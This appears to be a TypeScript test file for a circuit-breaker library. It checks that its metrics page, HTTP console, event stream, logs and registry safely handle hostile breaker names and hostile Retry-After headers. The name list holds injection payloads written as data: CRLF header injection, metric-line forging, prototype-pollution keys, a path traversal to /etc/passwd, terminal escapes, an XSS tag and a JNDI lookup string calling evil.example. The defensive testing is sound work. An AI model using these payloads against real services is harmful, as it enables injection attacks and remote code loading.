import { expect } from 'chai';
import type { BreakerView, Snapshot } from '../../src/console/api.js';
import { CircuitBreaker } from '../../src/breaker/circuit-breaker.js';
import { isCircuitOpenError, type CircuitOpenError } from '../../src/breaker/errors.js';
import { settleByStatus } from '../../src/outcomes/http.js';
import { log, printWithoutDiag } from '../../src/telemetry/log.js';
import { startService, type Service } from '../console/service.js';
import { expectMetrics } from '../deploy/prometheus.js';
import { openCircuit, succeed } from '../support/breakers.js';
import { stderrOf } from '../support/log.js';

const NAMES = [
  'evil\r\nX-Injected: yes',
  'a\nb',
  'a\\nb',
  'a\\',
  'a\\\nb',
  'a\\"b',
  '"} 1\ncircuit_breaker_state{name="forged"} 2\n#',
  'a"b\'c`d',
  '{}[],=#',
  ' # HELP x',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '../../etc/passwd',
  '%2e%2e%2f%00',
  '%',
  '\0',
  '\u0001\u0007\u001b]0;title\u0007\u001b[2J\u001b[31m',
  '\u0085\u2028\u2029',
  '\u202eesrever\u2066',
  '</script><img src=x onerror=alert(1)>',
  'data: {"x":1}\n\nevent: snapshot',
  '${jndi:ldap://evil.example/a} $1 $& $$',
  'наименование 名前 🔥',
  'x'.repeat(10_000),
] as const;

/** The names in a page, taken apart as the text format has it; fails where a line is none. */
function namesIn(page: string, metric: string): string[] {
  const names: string[] = [];
  for (const line of page.split('\n')) {
    if (line === '' || line.startsWith('# ')) continue;
    const [whole, series, labels = ''] = /^(\w+)(?:\{((?:\w+="(?:[^"\\\n]|\\[\\"n])*",?)*)\})? \S+$/.exec(line) ?? [];
    expect(whole, line).to.equal(line);
    if (series !== metric) continue;
    for (const [, label, value] of labels.matchAll(/(\w+)="((?:[^"\\]|\\.)*)"/g)) {
      if (label === 'name')
        names.push(value!.replace(/\\(.)/g, (_, escaped) => (escaped === 'n' ? '\n' : String(escaped))));
    }
  }
  return names;
}

const TOKEN = 'a-token-of-the-tests';

describe('hostile names', () => {
  let service: Service;
  beforeEach(async () => (service = await startService({ OTEL_BREAKER_ADMIN_TOKEN: TOKEN })));
  afterEach(() => service.stop());

  it('come out of a scrape as they went in, and make no line of their own', async () => {
    for (const name of NAMES) {
      const breaker = service.breaker(name);
      breaker.labels = { system: 'http', server_address: name, server_port: 80 };
      succeed(breaker);
    }
    const page = await (await fetch(`${service.url}/metrics`)).text();
    expect(namesIn(page, 'circuit_breaker_state')).to.have.members(NAMES);
    expect(namesIn(page, 'circuit_breaker_call_duration_seconds_count')).to.have.members(NAMES);
    expectMetrics(page);
  });

  it('are found by the console, read and acted upon, and begin no event of their own', async () => {
    for (const name of NAMES) service.breaker(name);
    const { breakers } = (await (await fetch(`${service.url}/breakers`)).json()) as { breakers: BreakerView[] };
    expect(breakers.map(({ name }) => name)).to.have.members(NAMES);
    for (const name of NAMES) {
      const path = `${service.url}/breakers/${encodeURIComponent(name)}`;
      const one = await fetch(path);
      expect(((await one.json()) as { name: string }).name).to.equal(name);
      expect([...one.headers.keys()]).not.to.include('x-injected');
      const opened = await fetch(`${path}/open`, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}` } });
      expect(opened.status, name).to.equal(200);
      expect(service.runtime.registry.get(name)!.state).to.equal('open');
    }
    const controller = new AbortController();
    const events = await fetch(`${service.url}/events`, { signal: controller.signal });
    let text = '';
    const decoder = new TextDecoder();
    for await (const chunk of events.body!) {
      text += decoder.decode(chunk as Uint8Array, { stream: true });
      if (text.includes('event: snapshot') && text.endsWith('\n\n')) break;
    }
    controller.abort();
    const [, data] = /^event: snapshot\ndata: ([^\n]*)\n\n$/m.exec(text) ?? [];
    expect((JSON.parse(data!) as Snapshot).changed.map(([, { name }]) => name)).to.have.members(NAMES);
    expect(text.match(/^event: /gm)).to.have.length(1);
  });

  it('make one line in a log, without control characters', () => {
    printWithoutDiag({});
    try {
      for (const name of NAMES) {
        const text = stderrOf(() => log.warn(`circuit "${name}": open`));
        expect(text, name).to.match(/^otel-breaker: circuit "[^\u0000-\u001f\u007f-\u009f\u2028\u2029]*": open\n$/);
      }
    } finally {
      printWithoutDiag({ OTEL_LOG_LEVEL: 'none' });
    }
  });

  it('pass through errors, events and the registry unharmed, and touch no prototype', async () => {
    for (const name of NAMES) {
      const breaker = service.breaker(name, { openDuration: '1m' });
      openCircuit(breaker);
      const rejection = await breaker.call(() => 1).catch((error: unknown) => error);
      expect(isCircuitOpenError(rejection)).to.equal(true);
      expect((rejection as CircuitOpenError).breaker).to.equal(name);
    }
    expect(service.runtime.registry.size).to.equal(NAMES.length);
    expect(Object.keys(Object.prototype)).to.deep.equal([]);
  });
});

describe('hostile answers', () => {
  const WAITS = ['1e999', '9'.repeat(400), '-5', '0', 'NaN', 'Infinity', '5 5', ' 7 ', '0.5', 'x'.repeat(100_000)];
  const DATES = ['Fri, 31 Dec 9999 23:59:59 GMT', 'Thu, 01 Jan 1970 00:00:00 GMT', '9'.repeat(15)];

  it('keep a circuit open no longer than it may be, whatever they ask for', () => {
    for (const header of ['retry-after', 'retry-after-ms']) {
      for (const value of [...WAITS, ...DATES]) {
        const breaker = new CircuitBreaker('target', {
          honorRetryAfter: true,
          openDuration: '1s',
          maxOpenDuration: '10s',
        });
        const before = Date.now();
        settleByStatus(breaker.acquire(), 429, (name) => (name === header ? value : undefined));
        const { openUntil, calls } = breaker.stats();
        const context = `${header}: ${value.slice(0, 40)}`;
        expect(calls.inFlight, context).to.equal(0);
        if (breaker.state === 'open') {
          expect(openUntil!.getTime() - before, context).to.be.within(0, 10_000 + (Date.now() - before));
        } else expect(breaker.state, context).to.equal('closed');
      }
    }
  });
});
